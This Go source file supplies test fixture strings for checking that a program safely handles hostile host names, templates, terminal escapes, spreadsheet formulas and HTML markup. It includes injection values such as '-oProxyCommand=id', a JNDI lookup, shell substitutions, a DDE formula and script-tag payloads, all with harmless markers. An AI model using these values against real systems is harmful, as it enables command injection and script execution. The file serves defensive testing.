// Package hostile provides instance names and tags that could harm a program that does not expect them. Many tests
// use these strings.
package hostile

import "strings"

// Hosts returns names of existing hosts, such as localhost, and strings that programs parse as addresses.
func Hosts() []string {
	return []string{
		"github.com", "localhost", "LocalHost", "localhost.localdomain", "127.0.0.1", "127.1", "2130706433", "0x7f000001", "192.0.2.7", "::1", "[::1]", "2001:db8::7",
		"192.0.2.7:22", "192.0.2.0/24", "fe80::1%eth0", "bastion.corp.example", "example.com.", "all", "ungrouped", "_meta", "*", "*.example.com", "!web", "i-0001", "-oProxyCommand=id", "Host", "..",
	}
}

// Templates returns strings that a template engine or a shell could evaluate.
func Templates() []string {
	return []string{
		"{{ lookup('pipe', 'touch TRACE') }}", "{% for x in range(9) %}x{% endfor %}", "{# comment #}", "{{.}}", "${jndi:ldap://192.0.2.1/x}", "$(touch TRACE)", "`touch TRACE`",
		"#jinja2: variable_start_string:'[%'", "!unsafe x", "__ansible_vault", "%h%p%r", "${HOME}", "~root", "{{", "}}{{ 1 + 1",
	}
}

// Escapes returns strings with characters that control a terminal or reorder text.
func Escapes() []string {
	return []string{
		"a\x1b[2Jb", "a\x1b]0;title\x07b", "a\x1b]52;c;cHduZWQ=\x07b", "a\u009b31mb", "a\u009d0;title\u009cb", "a\u202egpj.exe", "a\u2066b\u2069", "a\u200fb", "a\u0085b", "a\u2028b\u2029c",
		"a\rb", "a\nb", "a\r\n\r\nb", "a\tb", "a\x00b", "a\x7fb", "a\ufeffb", "a\u200bb", "\xff\xfe", "a\bb",
	}
}

// Formulas returns strings that a spreadsheet could evaluate.
func Formulas() []string {
	return []string{"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "=HYPERLINK(\"http://192.0.2.1/\")", "＝1+1", " =1+1"}
}

// Markup returns strings with HTML markup that a page must escape.
func Markup() []string {
	return []string{
		`</script><script>window.pwned = 1</script>`, `<img src="http://192.0.2.1/x" onerror="window.pwned = 1">`, `"><b>'`, `<!--`, `{{.}}`, "${1}`x", `生产环境 & "测试"`, `javascript:window.pwned=1`, `]]>`, `&lt;`,
	}
}

// Odd returns strings that are unusual but harmless.
func Odd() []string {
	return []string{"", " ", "web server (1)", `"quoted" 'twice' \`, "a,b;c", "订单服务", "été", "e\u0301te\u0301", "😀", "a=b", "a.b", "a-b", "a_b", strings.Repeat("long-", 60), strings.Repeat("长", 300)}
}

// Names returns all strings of this package.
func Names() (all []string) {
	for _, list := range [][]string{Hosts(), Templates(), Escapes(), Formulas(), Markup(), Odd()} {
		all = append(all, list...)
	}
	return all
}
